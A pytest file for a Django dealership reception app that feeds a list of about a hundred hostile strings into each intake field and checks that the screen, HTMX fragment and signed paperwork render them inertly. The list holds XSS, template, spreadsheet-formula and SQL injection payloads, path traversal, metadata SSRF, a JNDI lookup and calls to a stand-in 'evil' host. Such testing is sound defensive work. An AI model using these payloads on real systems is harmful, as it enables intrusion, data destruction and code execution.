"""Hostile words in every field of the intake: they are shown as they are, and do nothing anywhere."""

from datetime import UTC
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from dealership.paperwork import operations as paperwork
from reception import operations
from reception.models import Visit
from tests import factories
from tests.factories import TUESDAY_NINE

FIELDS = {
    "complaint": "words", "conditions": "conditions", "belongings": "belongings", "valuables": "valuables_list",
    "along": "brought_by", "unaccompanied": "unaccompanied_reason",
}  # fmt: skip
WORDS = [
    "<script>alert(1)</script>", "</textarea><script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)", "<svg/onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<base href=//evil>", "<meta http-equiv=refresh content=0;url=//evil>",
    "<form action=//evil><input name=csrfmiddlewaretoken>", "<link rel=stylesheet href=//evil>", "</dl></section><h1>",
    "<!--", "-->", "<![CDATA[<script>]]>", "&lt;script&gt;", "&#60;script&#62;", "&#x3c;img src=x&#x3e;",
    "%3Cscript%3E",
    "{{ 7*7 }}", "{% load static %}", "{% csrf_token %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{constructor}}",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"http://evil\")", "=cmd|'/C calc'!A0", "\t=1+1", "DDE(\"cmd\")",
    "' OR 1=1 --", "'; DROP TABLE reception_visit; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)", "../../etc/passwd",
    "\\..\\..\\windows", "file:///etc/passwd", "http://169.254.169.254/", "ldap://evil/a", "${jndi:ldap://evil}",
    "\u202eexe.gpj", "\u200b\u200b", "\u2066x\u2069", "a\u0301" * 60, "Z\u0363\u036a" * 30, "𝕳𝖊𝖑𝖑𝖔", "🚗" * 40,
    "\ufeffx", "\u0000x", "x\u0000", "\x08\x1b[31m", "\r\nSet-Cookie: a=b", "a\nb\nc", "\u2028alert(1)\u2029",
    "长" * 200, "W" * 200, "<" * 100, "&" * 100, "\"" * 100, "'" * 100, "\\" * 100, "`alert(1)`", "data:text/html,x",
    "hx-get=/x", "<div hx-get=/admin hx-trigger=load>", "<template><script>1</script></template>", "<noscript><p>",
    "<style>*{display:none}</style>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<math><mi//xlink:href=\"data:x,<script>\">", "<object data=//evil>",
    "<embed src=//evil>", "<marquee onstart=alert(1)>", "<body onload=alert(1)>", "<img src=//evil/pixel.gif>",
    "<button formaction=//evil>", "<isindex action=//evil>", "<p id=progress data-place=visit-1>", "<b id=said>",
    "<svg><use href=//evil#x>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a>", "<svg><foreignObject>",
    "<style>@import '//evil'</style>", "<x contenteditable onbeforeinput=alert(1)>", "<dialog open>", "<slot name=x>",
]  # fmt: skip


class Skeleton(HTMLParser):
    """The elements of a page and the names of their attributes, without any text."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, *sorted(name for name, _value in attrs)))

    handle_startendtag = handle_starttag


def skeleton(answer):
    return Skeleton(answer.content.decode()).found


def typed(field, words):
    """Return the press that carries the words in this field, and its form."""
    return {
        "complaint": ("complaint", {"words": words}),
        "conditions": ("complaint", {"words": "异响", "conditions": words}),
        "belongings": ("belongings", {"belongings": words}),
        "valuables": ("valuables", {"answer": "returned", "valuables_list": words}),
        "along": ("along", {"accompanied": "yes", "brought_by": words}),
        "unaccompanied": ("along", {"accompanied": "no", "unaccompanied_reason": words}),
    }[field]


@pytest.fixture
def page(desk, monday, crew):
    """Return a function that fills one field of a new intake and gives the part, the screen and the paper."""
    monday.move_to(TUESDAY_NINE.astimezone(UTC), tick=False)
    desk.force_login(crew.service_advisor)

    def fill(field, words):
        visit = factories.receiving(crew)
        what, form = typed(field, words)
        address = reverse("reception:press", args=[visit.pk, what])
        part = desk.post(address, form, headers={"HX-Request": "true"})
        screen = desk.get(reverse("reception:intake", args=[visit.pk]))
        if field == "unaccompanied":
            outcome = paperwork.Outcome("王", unsigned="absent", reason=words[:300] or "x", witness=crew.foreman)
        else:
            outcome = factories.drawn(words[:60] or "王")
        visit = Visit.objects.get(pk=visit.pk)
        paper = operations.sign_intake(visit, outcome=outcome, by=crew.service_advisor, at=TUESDAY_NINE)
        return part, screen, desk.get(reverse("paperwork:document", args=[paper.pk]))

    return fill


@pytest.mark.parametrize("field", FIELDS)
def test_hostile_words_are_inert_on_the_screen_and_on_paper(page, field):
    """Every third payload for each field: together the fields see each of them twice."""
    plain = [skeleton(answer) for answer in page(field, "平常的话")]
    offset = list(FIELDS).index(field) % 3
    for words in WORDS[offset::3]:
        part, screen, paper = page(field, words)
        assert part.status_code in {200, 409, 422}, words
        assert screen.status_code == paper.status_code == 200, words
        if part.status_code == 200 and "\n" not in words and "\r" not in words:
            assert skeleton(part) == plain[0], words
            assert skeleton(screen) == plain[1], words
            assert skeleton(paper) == plain[2], words


def test_there_are_more_than_ninety_payloads():
    assert len(WORDS) == len(set(WORDS)) > 90
